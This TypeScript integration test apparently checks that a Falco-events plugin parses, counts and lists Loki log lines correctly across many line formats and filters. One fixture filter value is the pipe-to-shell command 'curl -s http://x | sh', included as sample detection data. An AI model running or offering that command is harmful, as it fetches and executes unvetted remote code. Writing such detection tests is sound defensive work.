import { readSettings, type ReadSettings } from '../../../src/domain/environment/readLines';
import type { Environment } from '../../../src/domain/environment/types';
import { parseLine } from '../../../src/domain/event/lines/parse';
import type { FalcoEvent, LogEntry } from '../../../src/domain/event/types';
import { ANY_READING } from '../../../src/domain/event/wrapping';
import type { EventFilters } from '../../../src/domain/logql/filters';
import { renderBreakdown, renderLogs } from '../../../src/domain/logql/query/render';
import { startOwnLoki, type TestLoki } from '../loki';
import { allVariants } from './variants';

type Question = readonly [string, EventFilters, (event: FalcoEvent) => boolean];

const field = (name: string, value: string): Question => [
  name,
  [{ field: name, op: 'is', values: [value] }],
  (event) => event.fields[name] === value,
];

const QUESTIONS: readonly Question[] = [
  ['nothing', [], () => true],
  ['a rule', [{ field: 'rule', op: 'is', values: ['Mine'] }], ({ rule }) => rule === 'Mine'],
  ['no rule of that name', [{ field: 'rule', op: 'is-not', values: ['Mine'] }], ({ rule }) => rule !== 'Mine'],
  ['a priority', [{ field: 'priority', op: 'is', values: ['Warning'] }], ({ priority }) => priority === 'Warning'],
  ['a tag', [{ field: 'tags', op: 'is', values: ['T1059'] }], ({ tags }) => tags.includes('T1059')],
  [
    'a namespace',
    [{ field: 'namespace', op: 'is', values: ['shop'] }],
    ({ fields }) => fields['k8s.ns.name'] === 'shop',
  ],
  [
    'another namespace',
    [{ field: 'namespace', op: 'is-not', values: ['shop'] }],
    ({ fields }) => fields['k8s.ns.name'] !== 'shop',
  ],
  field('proc.name', 'curl'),
  field('proc.cmdline', 'curl -s http://x | sh'),
  ['a text', [{ text: 'k8s_pod_name=web-1', op: 'contains' }], ({ message }) => message.includes('k8s_pod_name=web-1')],
];

describe('what is listed of a line, however it is written, is counted and found', () => {
  const nowMs = Math.floor(Date.now() / 1000) * 1000;
  const variants = allVariants();
  const entries = variants.map(({ line }, index): LogEntry => ({
    line,
    tsNs: `${nowMs - 60_000}000000`,
    labels: { cluster: `v${index}`, job: 'odd' },
  }));
  const parsed = entries.map((entry) => parseLine(entry));
  const found = readSettings(entries);
  let loki: TestLoki;

  beforeAll(async () => {
    loki = await startOwnLoki();
    await loki.push(entries.map(({ labels, line, tsNs }) => ({ labels, lines: [{ line, tsNs }] })));
  }, 120_000);
  afterAll(() => loki.stop());

  it(`reads each of ${variants.length} lines as the event that it is`, () => {
    expect(variants.length).toBeGreaterThan(400);
    const wrong = parsed.flatMap((line, index) => {
      const name = variants[index]?.name ?? '';
      const right =
        line.kind === 'event' &&
        line.rule === (name.startsWith('JSON') ? 'Mine' : '') &&
        ['Warning', 'Informational'].includes(line.priority ?? '') &&
        line.fields['proc.name'] === 'curl' &&
        line.fields['k8s.pod.name'] === 'web-1';
      return right ? [] : [name];
    });
    expect(wrong).toEqual([]);
  });

  const settings: ReadonlyArray<readonly [string, ReadSettings | undefined]> = [
    ['as their lines were found', found],
    ['where nothing is known of them', found && { ...found, reading: ANY_READING }],
  ];

  describe.each(settings)('%s', (_, read) => {
    it.each(QUESTIONS)('with a filter on %s', async (_name, filters, isIn) => {
      if (read === undefined) {
        throw new Error('No event was found.');
      }
      const environment: Environment = { id: 'it', name: 'It', lokiUid: 'loki', selector: '{job="odd"}', ...read };
      const { expr } = renderBreakdown(environment, filters, 'cluster', { windowMs: 300_000 });
      const counted = new Set((await loki.instant(expr, nowMs)).map(({ labels }) => labels.cluster));
      const streams = await loki.logs(
        renderLogs(environment, filters, { onlyEvents: true }).expr,
        nowMs - 120_000,
        nowMs
      );
      const listed = new Set(streams.map(({ labels }) => labels.cluster));
      const wanted = variants.map(({ name }, index) => {
        const line = parsed[index];
        const isWanted = line?.kind === 'event' && isIn(line);
        return [name, isWanted, isWanted];
      });
      expect(variants.map(({ name }, index) => [name, counted.has(`v${index}`), listed.has(`v${index}`)])).toEqual(
        wanted
      );
    });
  });
});
